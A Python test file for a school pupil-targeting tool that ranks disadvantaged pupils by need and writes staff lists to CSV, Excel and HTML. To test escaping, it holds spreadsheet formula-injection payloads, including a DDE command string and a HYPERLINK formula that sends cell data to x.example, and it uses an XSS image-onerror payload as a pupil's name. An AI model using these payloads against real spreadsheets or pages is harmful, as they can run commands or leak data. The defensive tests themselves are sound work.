"""Current pupils: the pupil list comes from the pupils on roll now, ranked by need, named only
in the school's own folder, safe to open in a spreadsheet; approaches matched to each need."""
import csv
import io
import json
import warnings

import numpy as np
import pandas as pd
import pytest
from conftest import SAMPLE, readable_text

import gaptools
from gaptools.io.spreadsheet import safe_cell, safe_csv
from gaptools.targeting.evidence import approaches_for, foundations
from gaptools.targeting.priorities import concentrated
from gaptools.targeting.pupils import staff_list, target_pupils, write_targeting_outputs


def _load(frame):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return gaptools.load_pupils(frame)


def _priorities(*needs):
    return pd.DataFrame({"rank": range(1, len(needs) + 1), "need": list(needs)})


BASE = {"school_id": "S", "year": 2026, "key_stage": "KS4", "disadvantaged": True, "sen": "N",
        "attendance_pct": 97.0, "grade_english": 3, "grade_maths": 3}


def _rule(english, maths, attendance, priority=()):
    """The page's rule, worked here independently: 1 + further steps below each bar, at most 4,
    doubled in a priority area."""
    def pts(short, unit, step):
        return 0.0 if short <= 0 else min(1 + max(short - unit, 0) / step, 4.0)
    parts = {"literacy": pts(4 - english, 1, 1), "maths": pts(4 - maths, 1, 1),
             "attendance": pts(90 - attendance, 0, 5)}
    return sum(v * (2 if k in priority else 1) for k, v in parts.items())


def test_far_below_ranks_above_just_below():
    rows = [{**BASE, "pupil_id": f"g{i:02d}"} for i in range(20)]
    rows.append({**BASE, "pupil_id": "zz", "grade_english": "U", "grade_maths": "U", "attendance_pct": 79.5})
    rows.append({**BASE, "pupil_id": "yy", "grade_english": 2, "grade_maths": 4, "attendance_pct": 88.0})
    t = target_pupils(_load(pd.DataFrame(rows)), "S")
    assert t.pupil_id.iloc[0] == "zz"
    assert t.score.iloc[0] == pytest.approx(_rule(0, 0, 79.5))  # 4 + 4 + 3.1
    assert t.score.iloc[1] == pytest.approx(_rule(2, 4, 88.0))  # 2 + 0 + 1.4
    assert set(t.pupil_id.iloc[2:]) == {f"g{i:02d}" for i in range(20)}
    assert (t.score.iloc[2:] == _rule(3, 3, 97.0)).all()
    assert t.reasons.iloc[0].startswith("English grade U: 4 below a standard pass; maths grade U")


def test_priorities_choose_the_measures_that_list_a_pupil():
    rows = [{**BASE, "pupil_id": "eng", "grade_english": 1, "grade_maths": 6},
            {**BASE, "pupil_id": "mat", "grade_english": 6, "grade_maths": 1},
            {**BASE, "pupil_id": "att", "grade_english": 6, "grade_maths": 6, "attendance_pct": 70.0},
            {**BASE, "pupil_id": "both", "grade_english": 3, "grade_maths": 6, "attendance_pct": 85.0}]
    cur = _load(pd.DataFrame(rows))
    lit = target_pupils(cur, "S", priorities=_priorities("literacy"))
    assert lit.pupil_id.tolist() == ["eng", "both"]  # a literacy priority looks at English
    assert lit.score.tolist() == pytest.approx([_rule(1, 6, 97, {"literacy"}), _rule(3, 6, 85, {"literacy"})])
    assert lit.priorities.tolist() == ["1 literacy", "1 literacy"]  # each priority named, not a bare rank
    assert lit.reasons.iloc[0] == "English grade 1: 3 below a standard pass"
    att = target_pupils(cur, "S", priorities=_priorities("attendance", "literacy"))
    assert att.pupil_id.tolist() == ["att", "both", "eng"]  # attendance to date, then English
    assert att.score.tolist() == pytest.approx([_rule(6, 6, 70, {"attendance", "literacy"}),
                                                _rule(3, 6, 85, {"attendance", "literacy"}),
                                                _rule(1, 6, 97, {"attendance", "literacy"})])
    assert att.priorities.tolist() == ["1 attendance", "1 attendance; 2 literacy", "2 literacy"]
    # the reasons in a priority area come first
    assert att.reasons.iloc[1].startswith("English grade 3") and "attendance 85.0%" in att.reasons.iloc[1]


def test_staff_list_is_readable():
    rows = [{**BASE, "pupil_id": "a", "grade_english": "U", "forename": "Ann", "surname": "Lee", "sen": "K"},
            {**BASE, "pupil_id": "b", "grade_maths": 5, "forename": "Bo", "surname": "Ray"}]
    s = staff_list(target_pupils(_load(pd.DataFrame(rows)), "S"))
    assert not {"pupil_id", "attendance_pct", "va_english", "disadvantaged", "score"} & set(s.columns)
    assert list(s.columns[:5]) == ["Rank", "UPN", "Forename", "Surname", "Need score"]
    assert s["English"].tolist() == ["U", "3"] and s["Maths"].tolist() == ["3", "5"]  # whole grades, U for 0
    assert s["SEN"].tolist() == ["SEN support", ""]
    # the same for every pupil (key stage, year, attendance, disadvantaged): not a column
    assert not {"Key stage", "Results in", "Attendance %", "Disadvantaged"} & set(s.columns)
    assert not any("." in v for v in s["English"].tolist() + s["Maths"].tolist())


HOSTILE = ["=1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?q="&A1,"Click")', "-5",
           "+44 20 7946 0000", "-2+3", "+1.5", "1e5", "plain"]


def _runs_in_a_spreadsheet(cell):
    import re
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[0-9.]+(e[0-9]+)?", cell)


def test_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    rows = [{**BASE, "pupil_id": pid, "forename": pid, "grade_english": 1} for pid in HOSTILE]
    t = target_pupils(_load(pd.DataFrame(rows)), "S")
    write_targeting_outputs(tmp_path, "S", t, "# strategy")
    text = (tmp_path / "targets.csv").read_text()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert cells and not [c for c in cells if _runs_in_a_spreadsheet(c)]
    written = list(csv.DictReader(io.StringIO(text)))
    expected = {("'" + v) if _runs_in_a_spreadsheet(v) else v for v in HOSTILE}
    assert {r["UPN"] for r in written} == expected == {r["Forename"] for r in written}
    assert {"-5", "+1.5", "'+44 20 7946 0000", "'=1+1", "'-2+3"} <= expected  # plain numbers stay
    assert safe_cell("\t=1") == "'\t=1" and safe_cell("\r=1") == "'\r=1" and safe_cell(None) == ""
    assert safe_csv(pd.DataFrame({"=x": ["@y"]})) == "'=x\n'@y\n"
    # the workbook: the same pupils, the same escaping, every cell from the data stored as text (no formula)
    from openpyxl import load_workbook

    sheet = load_workbook(tmp_path / "targets.xlsx").active
    header = [c.value for c in sheet[1]]
    book = [dict(zip(header, [c.value for c in row])) for row in sheet.iter_rows(min_row=2)]
    assert {r["UPN"] for r in book} == expected == {r["Forename"] for r in book}
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_staff_list_opens_in_excel_with_accents_year_groups_and_named_priorities(tmp_path):
    from openpyxl import load_workbook

    rows = [{**BASE, "pupil_id": "a", "forename": "Zoë", "surname": "Müller", "grade_english": 2, "grade_maths": 5,
             "year_group": 11,
             "form": "11B"},
            {**BASE, "pupil_id": "b", "forename": "Ann", "surname": "D'Souza", "grade_english": 1, "grade_maths": 5,
             "year_group": 10,
             "form": "10A"},
            {**BASE, "pupil_id": "c", "forename": "Ed", "surname": "Øst", "grade_english": 3, "grade_maths": 2,
             "year_group": 11, "form": "11C"}]
    frame = pd.DataFrame(rows)
    t = target_pupils(frame, "S", priorities=_priorities("literacy", "maths"))
    # year group and form as the targets table carries them (issue 26's optional pupil columns)
    t = t.assign(**{c: t.pupil_id.map(dict(zip(frame.pupil_id, frame[c]))) for c in ("year_group", "form")})
    write_targeting_outputs(tmp_path, "S", t, "# strategy")
    raw = (tmp_path / "targets.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel on Windows needs to read UTF-8
    csv_rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    # need, doubled in the priority areas: English 3 and maths 2 (1 + 2) = 6; English 1 (3) = 6; English 2 = 4;
    # a tie goes to the pupil id (b before c)
    assert [r["Surname"] for r in csv_rows] == ["D'Souza", "Øst", "Müller"]
    assert [r["Priorities"] for r in csv_rows] == ["1 literacy", "1 literacy; 2 maths", "1 literacy"]
    assert [r["English"] for r in csv_rows] == ["1", "3", "2"]
    book = load_workbook(tmp_path / "targets.xlsx")
    assert book.sheetnames == ["Year 10", "Year 11"]  # a sheet per year group, in the list's order
    seen = []
    for sheet in book.worksheets:
        header = [c.value for c in sheet[1]]
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
        assert {"Form", "Year group", "Priorities", "English"} <= set(header)
        for row in sheet.iter_rows(min_row=2, values_only=True):
            r = dict(zip(header, row))
            assert r["Year group"] == int(sheet.title.split()[1]) and r["Form"].startswith(str(r["Year group"]))
            assert isinstance(r["English"], int) and r["Priorities"].startswith("1 literacy")  # whole grades
            seen.append(r["UPN"])
        assert sheet.column_dimensions["B"].width >= len("UPN")
    assert sorted(seen) == sorted(r["UPN"] for r in csv_rows) == ["a", "b", "c"]
    assert [c.value for c in book["Year 11"]["A"][1:]] == [2, 3]  # ranks as numbers, in the list's order
    # no year group column: one sheet of every pupil
    write_targeting_outputs(tmp_path, "S", t.drop(columns=["year_group", "form"], errors="ignore"), "")
    assert load_workbook(tmp_path / "targets.xlsx").sheetnames == ["Pupils"]


def test_the_pupil_list_is_its_owners_alone_and_the_strategy_follows_the_umask(tmp_path):
    import os

    from gaptools.io.files import atomic_write_text

    t = target_pupils(_load(pd.DataFrame([{**BASE, "pupil_id": "P1", "grade_english": 1}])), "S")
    before = os.umask(0o027)
    try:
        write_targeting_outputs(tmp_path, "S", t, "# strategy")
        atomic_write_text(tmp_path / "page.html", "<p>to share</p>")
        atomic_write_text(tmp_path / "names.csv", "pupil\n", private=True)
    finally:
        os.umask(before)
    modes = {p.name: p.stat().st_mode & 0o777 for p in tmp_path.iterdir()}
    assert modes == {"targets.csv": 0o600, "targets.xlsx": 0o600, "strategy.md": 0o640, "page.html": 0o640,
                     "names.csv": 0o600}


def test_approaches_matched_to_the_need():
    lit = approaches_for("literacy", phase="primary", matched=True)
    assert lit["strand"].tolist()[:3] == ["Reading comprehension strategies", "Oral language interventions", "Phonics"]
    lit2 = approaches_for("literacy", phase="secondary", matched=True)
    assert lit2["strand"].tolist()[:2] == ["Reading comprehension strategies", "Oral language interventions"]
    assert "Phonics" not in set(approaches_for("literacy", phase="secondary", matched=True, limit=None)["strand"])
    att = approaches_for("attendance", matched=True)
    assert att["strand"].tolist()[:2] == ["Parental engagement", "Mentoring"]
    assert "attendance" in att["note"].iloc[0] and "attendance" in att["note"].iloc[1]
    base = set(foundations()["strand"])
    assert base == {"Metacognition and self-regulation", "Feedback"}
    for need in ("literacy", "maths", "attendance", "behaviour", "teaching"):
        rows = approaches_for(need, matched=True, limit=None)
        assert not base & set(rows["strand"]), need
        assert (rows["evidence"] >= 2).all() and (rows["months"] > 0).all()
    notes = gaptools.targeting.evidence.evidence_table()["note"].fillna("")
    assert not notes.str.contains("check", case=False).any() and not notes.str.contains(r"\+\d", regex=True).any()


def _gap_rows(effects, n=120, seed=7):
    """A KS2 school where the reading gap is ``effects[sex]`` points, for each sex."""
    rng = np.random.default_rng(seed)
    rows = []
    for i in range(n):
        sex = "FM"[i % 2]
        dis = i % 4 < 2
        rows.append({"school_id": "C", "year": 2025, "key_stage": "KS2", "pupil_id": f"p{i}", "sex": sex,
                     "disadvantaged": dis, "reading_score": int(np.clip(round(
                         rng.normal(104, 2) - (effects[sex] if dis else 0)), 80, 120)),
                     "maths_score": int(np.clip(round(rng.normal(104, 2)), 80, 120))})
    g = gaptools.gap_table(_load(pd.DataFrame(rows)), school_id="C", subgroups=("sex",), detail=True,
                           national=False)
    return g[(g.measure == "reading_score") & g.subgroup.fillna("").str.startswith("sex=")]


def test_concentrated_in_a_planted_group():
    rows = _gap_rows({"M": 8.0, "F": 0.0})
    top = concentrated(rows)
    assert top is not None and top["subgroup"] == "sex=M"
    assert concentrated(_gap_rows({"M": 5.0, "F": 5.0})) is None  # the same gap in both: not concentrated
    assert concentrated(_gap_rows({"M": 0.0, "F": 0.0})) is None


def test_priority_names_the_concentration(sample_pupils):
    # plant: in one school's newest year, only disadvantaged boys fall far behind in reading
    p = sample_pupils[sample_pupils.school_id == "900201"].copy()
    latest = p.year == p.year.max()
    dis = p.disadvantaged.astype(bool)
    p.loc[latest & dis & (p.sex == "F"), "reading_score"] = p.loc[latest & ~dis, "reading_score"].median()
    boys = latest & dis & (p.sex == "M") & p.reading_score.notna()
    p.loc[boys, "reading_score"] = (p.loc[boys, "reading_score"] - 12).clip(lower=80)
    pr = gaptools.priorities(p, "900201")
    lit = pr[pr.need == "literacy"].iloc[0]
    assert lit["concentrated_in"] and lit["concentrated_in"].startswith("boys (")


def _current_pupils(tmp_path, school="900101", ks="KS4"):
    """A current-pupils export for one sample school: this year's cohort re-issued as pupils on roll
    now (new ids, named), with working-at grades and attendance to date."""
    past = pd.read_csv(SAMPLE / f"{school}.csv", dtype=str)
    now = past[past.year == past.year.max()].copy()
    now["year"] = str(int(now.year.iloc[0]) + 1)
    now["pupil_id"] = [f"CUR{i:04d}" for i in range(len(now))]
    now["forename"] = [f"Fore{i:04d}" for i in range(len(now))]
    now["surname"] = [f"Sur{i:04d}" for i in range(len(now))]
    path = tmp_path / "current.csv"
    now.to_csv(path, index=False)
    return path, now, past


def test_school_report_lists_only_current_pupils(tmp_path, sample_pupils):
    path, now, past = _current_pupils(tmp_path)
    r = gaptools.SchoolReport(sample_pupils, "900101", out_dir=tmp_path / "out", current=path)
    t = r.targets_data()
    mine_now = set(now[now.disadvantaged == "True"].pupil_id)
    assert len(t) > 0 and set(t.pupil_id) <= mine_now
    assert not set(t.pupil_id) & set(past.pupil_id)  # leavers are never listed
    assert (t.year == int(now.year.iloc[0])).all()
    needs = set(r.priorities_data()["need"])
    assert all(p for p in t.priorities)  # every pupil listed matches a priority
    assert needs  # (900101 has clear gaps)
    r.save(targets=True)
    written = pd.read_csv(tmp_path / "out" / "targets.csv", dtype=str)
    assert written.UPN.tolist() == t.pupil_id.tolist() and "Forename" in written.columns
    doc = (tmp_path / "out" / "results.json").read_text()
    assert "Fore0" not in doc and "CUR0" not in doc
    without = gaptools.SchoolReport(sample_pupils, "900101")
    assert without.targets_data().empty
    shown = without.targets()[0]
    assert "needs the pupils on roll now" in getattr(shown, "data", str(shown))


MIS = {"school_id": "URN", "school_name": "Establishment", "pupil_id": "UPN", "disadvantaged": "Pupil Premium",
       "forename": "Legal Forename", "surname": "Legal Surname", "grade_english": "Eng Working At",
       "attendance_pct": "Attendance To Date"}


def _mis(frame):
    """The table as an MIS exports it: its own column names and Yes/No."""
    out = frame.rename(columns=MIS)
    out["Pupil Premium"] = out["Pupil Premium"].map({"True": "Yes", "False": "No"})
    return out


def test_run_with_current_keeps_names_in_the_school_folder(tmp_path):
    from gaptools.cli import main

    path, now, past = _current_pupils(tmp_path)
    data = tmp_path / "data"
    data.mkdir()
    past = past.assign(forename=[f"Old{i:04d}" for i in range(len(past))], surname="Leaver")
    _mis(past).to_csv(data / "900101.csv", index=False)
    _mis(now).to_csv(path, index=False)
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text("columns:\n" + "".join(f"  {k}: \"{v}\"\n" for k, v in MIS.items())
                       + "values:\n  disadvantaged: {\"Yes\": true, \"No\": false}\n")
    out = tmp_path / "out"
    assert main(["run", str(data), "--out", str(out), "--mapping", str(mapping), "--current", str(path),
                 "--quiet", "--workers", "1"]) == 0
    names = set(now.forename) | set(now.surname)
    ids = set(now.pupil_id)
    school = out / "900101"
    found_in, past_names = set(), set()
    for f in out.rglob("*"):
        if not f.is_file():
            continue
        text = readable_text(f)
        if f.suffix == ".parquet":  # compressed: look at the values
            text += pd.read_parquet(f).to_csv()
        if any(n in text for n in names) or any(i in text for i in ids):
            found_in.add(f.relative_to(out).as_posix())
        if "Old0" in text or "Leaver" in text:
            past_names.add(f.relative_to(out).as_posix())
    assert found_in == {"900101/targets.csv", "900101/targets.xlsx", "900101/03_intervention_targeting.html",
                        "900101/notebooks/03_intervention_targeting.ipynb"}
    assert past_names == set()  # leavers' names: nowhere, not even in the run's own working copy
    assert not any(path.name in f.name for f in out.rglob("*"))  # the current table is not copied
    listed = pd.read_csv(school / "targets.csv", dtype=str)
    assert len(listed) and set(listed.UPN) <= set(now[now.disadvantaged == "True"].pupil_id)
    page = (school / "03_intervention_targeting.html").read_text()
    assert "Fore" in page and "far below a bar ranks above one just below it" in page
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["schools"]["900101"]["status"] == "ok"


def test_run_refuses_invalid_current_pupils(tmp_path, capsys):
    from gaptools.cli import main

    bad = tmp_path / "current.csv"
    bad.write_text("school_id,year,key_stage,pupil_id,disadvantaged,attendance_pct\n"
                   "900101,2026,KS4,A1,True,97\n900101,2026,KS4,A2,maybe,140\n")
    assert main(["run", str(SAMPLE), "--out", str(tmp_path / "o"), "--current", str(bad), "--quiet"]) == 1
    err = capsys.readouterr().err
    assert "current.csv" in err and "line 3" in err and "maybe" in err and "140" in err
    assert main(["run", str(SAMPLE), "--out", str(tmp_path / "o"), "--current", str(tmp_path / "none.csv")]) == 2


def test_names_from_data_are_escaped_on_the_page(tmp_path, sample_pupils):
    rows = [{**BASE, "school_id": "900101", "pupil_id": "<b>1</b>", "forename": "<img src=x onerror=alert(1)>",
             "surname": "O'Neil & <Co>", "grade_english": 1}]
    path = tmp_path / "current.csv"
    pd.DataFrame(rows).to_csv(path, index=False)
    r = gaptools.SchoolReport(sample_pupils, "900101", current=path)
    html = "".join(p._repr_html_() for p in r.targets()[0] if hasattr(p, "_repr_html_"))
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "<img" not in html
    assert "&lt;b&gt;1&lt;/b&gt;" in html and "O&#x27;Neil &amp; &lt;Co&gt;" in html.replace("&#39;", "&#x27;")


def test_ks2_codes_writing_and_the_list():
    base = {"school_id": "P", "year": 2026, "key_stage": "KS2", "disadvantaged": True, "maths_score": "104",
            "writing_ta": "EXS", "reading_score": "101"}
    rows = [{**base, "pupil_id": "b", "reading_score": "B"}, {**base, "pupil_id": "a", "reading_score": "A"},
            {**base, "pupil_id": "w", "writing_ta": "WTS"}, {**base, "pupil_id": "p", "writing_ta": "PK4"}]
    t = target_pupils(_load(pd.DataFrame(rows)), "P")
    # B: as far below as a score can be (4); PK4: two steps below EXS (2); WTS: one (1); A (absent): no need shown
    assert dict(zip(t.pupil_id, t.score)) == {"b": 4.0, "p": 2.0, "w": 1.0}
    assert t.reasons.tolist() == ["reading: B, working below the test",
                                  "writing PK4: below the expected standard (EXS)",
                                  "writing WTS: below the expected standard (EXS)"]
    s = staff_list(t)
    assert s["Reading"].tolist() == ["B", "101", "101"] and s["Writing"].tolist() == ["EXS", "PK4", "WTS"]


def test_notebook_01_profiles_the_current_cohorts(tmp_path, sample_pupils):
    path, now, _ = _current_pupils(tmp_path, school="900201", ks="KS2")
    r = gaptools.SchoolReport(sample_pupils, "900201", current=path)
    parts = r.current_profile()
    heading, table = parts[0], parts[1].data
    year = int(now.year.iloc[0])
    assert f"results in {year - 1}/{str(year)[2:]}" in heading.data
    n_dis = int((now.disadvantaged == "True").sum())
    share = n_dis / len(now)
    # rows are named from the label table (no raw column names on a page)
    assert table.loc[("All pupils", "All pupils"), "Disadvantaged pupils"] == f"{n_dis} ({share:.0%})"
    assert "Fore" not in table.to_string() and "CUR0" not in table.to_string()  # counts only
    assert "pass their table as `current`" in gaptools.SchoolReport(sample_pupils, "900201").current_profile().data


@pytest.mark.parametrize("name", ["01_cohort_overview", "03_intervention_targeting"])
def test_papermill_reads_the_current_parameter(name):
    import papermill as pm
    from conftest import ROOT

    assert "current" in pm.inspect_notebook(str(ROOT / "notebooks" / f"{name}.ipynb"))


def test_a_year_that_already_has_results_is_never_listed(tmp_path, sample_pupils):
    path, now, past = _current_pupils(tmp_path)
    stale = now.assign(year=past.year.max(), pupil_id=[f"OLD{i:04d}" for i in range(len(now))])
    pd.concat([now, stale]).to_csv(path, index=False)  # a past cohort passed as current by mistake
    r = gaptools.SchoolReport(sample_pupils, "900101", current=path)
    t = r.targets_data()
    assert len(t) and not t.pupil_id.str.startswith("OLD").any()
    assert f"{len(stale)} pupils of the current table are left out" in r.targets()[0][0].data
